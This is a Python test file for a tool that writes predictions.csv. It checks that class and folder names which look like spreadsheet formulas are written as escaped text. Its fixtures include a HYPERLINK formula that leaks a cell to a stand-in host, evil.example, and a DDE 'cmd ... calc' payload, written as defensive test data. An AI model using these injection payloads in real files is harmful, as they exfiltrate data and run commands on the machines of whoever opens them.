"""Issue 35, point 7: predictions CSV injection. Class names (from a registered model, whose classes
are folder names) and paths (folder or archive member names) that start like a spreadsheet formula
reach predictions.csv as text: a leading ' (OWASP's advice), never as `=HYPERLINK(...)`."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from tasks.core.spreadsheet import FORMULA_START
from tasks.tools.predict import Scored, write_csv
from tests.conftest import ROOT, run, write_params
from tests.support.tiny_onnx import tiny_model

HYPERLINK = '=HYPERLINK("evil.example?leak="&A1,"click me")'  # no slash: it names a folder too


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="") as f:
        return list(csv.reader(f))


def _runs_as_formula(value: str) -> bool:
    return value.startswith(FORMULA_START)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_cell_starting_like_a_formula_is_neutralised(tmp_path: Path, start: str) -> None:
    evil = f"{start}cmd|' /C calc'!A0"
    write_csv(
        [Scored(evil, evil, 0.5, f"{evil}:0.5000"), Scored(evil, error=f"{evil}: not a readable image")],
        tmp_path / "p.csv",
    )
    header, *rows = _cells(tmp_path / "p.csv")
    safe = "'" + evil.replace("\r", "\\r")  # a carriage return as \r: else a reader splits the row there
    assert rows[0] == [safe, safe, "0.500000", f"{safe}:0.5000", ""]
    assert rows[1] == [safe, "", "", "", f"{safe}: not a readable image"]


def test_ordinary_cells_are_written_as_they_are(tmp_path: Path) -> None:
    write_csv([Scored("photos/cat/1.png", "cat", 0.25, "cat:0.2500 dog:0.7500")], tmp_path / "p.csv")
    assert _cells(tmp_path / "p.csv")[1] == ["photos/cat/1.png", "cat", "0.250000", "cat:0.2500 dog:0.7500", ""]


def test_predict_writes_a_formula_class_and_a_formula_folder_as_text(tmp_path: Path) -> None:
    classes = ["plain", "@SUM(1+1)*cmd|' /C calc'!A0", HYPERLINK]  # the last one always wins (tiny_model)
    model = tiny_model(tmp_path / "model.onnx", classes)
    folder = tmp_path / HYPERLINK  # a folder of photos named like a formula: its path starts the cell
    folder.mkdir()
    Image.fromarray(np.full((4, 4), 200, np.uint8)).save(folder / "1.png")
    params = write_params(tmp_path / "params.yaml", {})
    done = run(
        ["python", "-m", "tasks.tools.predict", HYPERLINK, "--model", str(model), "--params", str(params)],
        tmp_path,
        PYTHONPATH=str(ROOT),
    )
    assert "1 of 1 images scored" in done.stdout, done.stdout
    header, row = _cells(tmp_path / "predictions.csv")
    assert header == ["path", "class", "probability", "top_k", "error"]
    assert row[0] == f"'{HYPERLINK}/1.png" and row[1] == f"'{HYPERLINK}", row
    assert row[3].startswith(f"'{HYPERLINK}:") and "@SUM" in row[3], row
    assert not [value for value in row if _runs_as_formula(value)], row
